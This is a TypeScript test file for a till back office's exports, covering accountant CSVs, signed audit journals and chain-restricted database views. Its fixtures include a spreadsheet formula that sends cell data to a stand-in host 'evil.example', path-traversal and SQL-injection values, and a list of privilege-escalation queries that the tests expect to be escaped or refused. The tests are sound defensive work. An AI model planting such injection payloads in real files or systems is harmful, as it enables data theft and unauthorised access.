// What leaves an office for others: files for an accountant and an auditor, and views for other programs; with tills whose
// names mean to be formulas and paths, and readers who look for another chain.
import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeNew } from '#office/commands/export.ts';
import { asOwner } from '#office/database/database.ts';
import { FakeTill } from '#support/fake-till.ts';
import { OfficeBench, officeRuns } from '#support/office.ts';

const days = ['--from', '2020-01-01', '--to', '2039-12-31'];
const formula = `=HYPERLINK("https://evil.example/?"&A1,"x")`;

describe.skipIf(!officeRuns)('exports of an office', () => {
  const office = new OfficeBench();
  const tills: FakeTill[] = [];
  let sold = '';
  let restored: FakeTill;

  const joined = async (name: string): Promise<FakeTill> => {
    const till = new FakeTill();
    tills.push(till);
    await till.join(office.url, await office.enrol(name, '@SUM(1)'));
    return till;
  };
  const out = (name: string): string => join(office.bench.folder(), name);
  const rowsOf = (file: string): string[] => readFileSync(file, 'utf8').trimEnd().split('\r\n');

  beforeAll(async () => {
    await office.start();
    const [one, two] = [await joined(formula), await joined('../../evil')];
    restored = two;
    sold = one.sell(1_234);
    one.sell(500, 'unknown');
    two.sell(7, 'succeeded', 'S-\u202E7');
    two.signHead();
    for (const till of [one, two]) await till.client().send('/v1/stretches', 1, 0, till.lines());
  });
  afterAll(async () => {
    for (const till of tills) till.close();
    await office.close();
  });

  it('leaves no part of a file that the disk has no room for: its tokens would be taken for those that hold', async () => {
    const folder = office.bench.folder();
    const pieces = function* () {
      yield 'till,token\r\n';
      throw new Error('ENOSPC');
    };
    await expect(writeNew(folder, 'tokens.csv', pieces())).rejects.toThrow('ENOSPC');
    expect(readdirSync(folder)).toEqual([]);
  });

  it('writes payments and takings of days, in minor units and decimals, and no formula', async () => {
    const folder = out('csv');
    const files = await office.run<{ file: string; bytes: number }>(
      'export',
      ...days,
      '--zone',
      'Asia/Tokyo',
      '--out',
      folder,
    );
    expect(files.map(({ file }) => file)).toEqual(['payments.csv', 'takings.csv']);
    const [head, ...payments] = rowsOf(join(folder, 'payments.csv'));
    expect(head).toMatch(/^day,time,time_zone,till,shop,operation,.*,amount_minor,amount,/);
    expect(payments).toHaveLength(3);
    // Nothing turns the line around.
    expect(payments.find((each) => each.includes(',Asia/Tokyo,../../evil,'))).toContain(',S-‹U+202E›7,');
    const row = payments.find((each) => each.includes(sold)) ?? '';
    expect(row).toContain(`,Asia/Tokyo,"'${formula.replaceAll('"', '""')}",'@SUM(1),${sold},`);
    expect(row).toContain(',EUR,1234,12.34,1234,12.34,0,0.00,');
    const takings = rowsOf(join(folder, 'takings.csv')).slice(1);
    expect(takings.map((each) => /,EUR,,(\d+),([\d.]+),/.exec(each)?.slice(1))).toEqual([
      ['7', '0.07'],
      ['1234', '12.34'],
    ]);
    await expect(office.run('export', ...days, '--out', folder)).rejects.toThrow('is there already');
    await expect(office.run('export', ...days, '--zone', `UTC'; --`, '--out', out('no'))).rejects.toThrow(
      'a time zone',
    );
  });

  it('writes each till’s journal with what proves it, also of a restored folder, and a cut is found', async () => {
    const common = restored.records.length - 1;
    restored.records = restored.records.slice(0, common);
    restored.append('folder-paused', null, { reason: 'copied' });
    restored.sell(99);
    restored.signHead();
    await restored.client().send('/v1/lineages', 1, common, restored.lines(common));
    const folder = out('audit');
    const journals = await office.run<{ journal: string; till: string; lineage: number }>(
      'export',
      '--audit',
      '--out',
      folder,
    );
    expect(journals.map(({ till, lineage }) => [till, lineage])).toEqual([
      ['../../evil', 1],
      ['../../evil', 2],
      [formula, 1],
    ]);
    expect(readdirSync(folder).every((name) => /^[\w-]+\.(?:ndjson|pem|json|mjs)$/.test(name))).toBe(true);
    const verify = (journal: string, file = `${journal}.ndjson`) => {
      const args = ['verify-journal.mjs', file, `${journal}-key.pem`, '--countersigned', `${journal}-head.json`];
      return spawnSync(process.execPath, [...args, '--office-key', 'office-key.pem'], {
        cwd: folder,
        encoding: 'utf8',
      });
    };
    for (const { journal } of journals) {
      const { status, stderr } = verify(journal);
      expect([journal, status, stderr]).toEqual([journal, 0, '']);
    }
    const name = journals[1]?.journal ?? '';
    const lines = readFileSync(join(folder, `${name}.ndjson`), 'utf8')
      .trimEnd()
      .split('\n');
    expect(lines).toHaveLength(restored.records.length);
    writeFileSync(join(folder, 'cut.ndjson'), `${lines.slice(0, -2).join('\n')}\n`);
    expect(verify(name, 'cut.ndjson').status).toBe(1);
  });

  it('lets a reader see the views of its chain, and nothing else', async () => {
    const [chain, till] = [randomUUID(), randomUUID()];
    await asOwner(office.databaseUrl, async (tx) => {
      await tx.run('INSERT INTO chain (id, name) VALUES ($1, $2)', [chain, 'Others']);
      await tx.run('INSERT INTO till (chain_id, id, name) VALUES ($1, $2, $3)', [chain, till, 'Theirs']);
      await tx.run(
        `INSERT INTO operation (chain_id, till_id, id, lineage, kind, state, mode, environment, accepted_at, changed_at)
          VALUES ($1, $2, 'theirs', 1, 'x', 'succeeded', 'live', 'e', now(), now())`,
        [chain, till],
      );
    });
    const [added] = await office.run<{ login: string; password: string }>(
      'reader',
      'add',
      '--name',
      'books',
      '--chain',
      'main',
    );
    const url = new URL(office.databaseUrl);
    [url.username, url.password] = [added?.login ?? '', added?.password ?? ''];
    const client = new Client({ connectionString: url.href });
    client.on('error', () => undefined);
    await client.connect();
    const rows = async (sql: string) => (await client.query<{ [column: string]: unknown }>(sql)).rows;
    try {
      const own = ['../../evil', formula];
      const sql = 'SELECT till FROM office_v1.payment GROUP BY till ORDER BY till COLLATE "C"';
      const seen = async () => (await rows(sql)).map((row) => row['till']);
      expect(await seen()).toEqual(own);
      expect(await rows('SELECT sum(taken_minor)::int AS sum FROM office_v1.taking_by_hour')).toEqual([{ sum: 1_340 }]);
      expect(await rows('SELECT count(*)::int AS tills FROM office_v1.till')).toEqual([{ tills: 2 }]);
      expect(await rows('SELECT count(*)::int AS alarms FROM office_v1.alarm')).toHaveLength(1);
      await client.query(`SET tillbridge.chain = '${chain}'`);
      await client.query('SET default_transaction_read_only = off');
      expect(await seen()).toEqual(own);
      const refused = [
        'SELECT * FROM till',
        'SELECT * FROM operation',
        'SELECT * FROM person',
        'SELECT * FROM chain_reader',
        'SET ROLE tillbridge_office',
        'SET ROLE tillbridge_views',
        `SET SESSION AUTHORIZATION tillbridge_office`,
        `SELECT chain_of_person('Ada')`,
        'SELECT * FROM all_chains()',
        `UPDATE office_v1.till SET name = 'x'`,
        'DELETE FROM office_v1.payment',
        'CREATE TABLE office_v1.mine (x int)',
      ];
      for (const asked of refused) {
        expect([asked, await client.query(asked).then(() => 'done', String)]).toEqual([
          asked,
          expect.stringMatching(/permission denied|cannot (?:update|delete)/),
        ]);
      }
      const [main] = await asOwner(office.databaseUrl, (tx) =>
        tx.rows<{ id: string }>(`SELECT id FROM chain WHERE name = 'main'`),
      );
      const theirs = (...more: string[]) => office.run('reader', ...more, '--name', 'books', '--chain', 'Others');
      expect(main?.id).not.toBe(chain);
      await expect(theirs('add')).rejects.toThrow('a reader of another chain');
      await expect(theirs('remove')).rejects.toThrow('No reader of this chain');
      await expect(office.run('reader', 'add', '--name', 'x; DROP', '--chain', 'main')).rejects.toThrow(
        'small letters',
      );
      await office.run('reader', 'remove', '--name', 'books', '--chain', 'main');
      await expect(seen()).rejects.toThrow('permission denied');
    } finally {
      await client.end();
    }
    await expect(new Client({ connectionString: url.href }).connect()).rejects.toThrow('authentication failed');
  });
});
